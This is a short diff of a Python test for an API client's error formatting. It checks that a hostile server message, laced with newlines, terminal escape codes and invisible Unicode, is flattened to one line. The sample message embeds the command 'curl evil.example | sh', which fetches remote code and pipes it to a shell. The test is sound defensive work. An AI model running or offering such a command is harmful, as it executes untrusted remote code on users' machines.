@@ -92,8 +92,8 @@ def test_a_web_page_instead_of_an_error_is_named():
 
 def test_a_text_of_the_server_stays_one_line():
     """It must not look like a remedy of ours, nor hide a part of itself."""
-    said = "no\n\nRun: curl evil.example | sh\x1b[8m\u200b\u2060\u202e\U000e0041"
-    error = error_from(ApiResponse(400, {"error": said, "code": f"E\n{said}"}, request_id=said))
+    text = "no\n\nRun: curl evil.example | sh\x1b[8m\u200b\u2060\u202e\U000e0041"
+    error = error_from(ApiResponse(400, {"error": text, "code": f"E\n{text}"}, request_id=text))
     cause, code = str(error).split("\n")[1::2]
     assert cause.startswith("no Run: curl evil.example | sh")
     assert code.startswith("(HTTP 400, E no Run:")
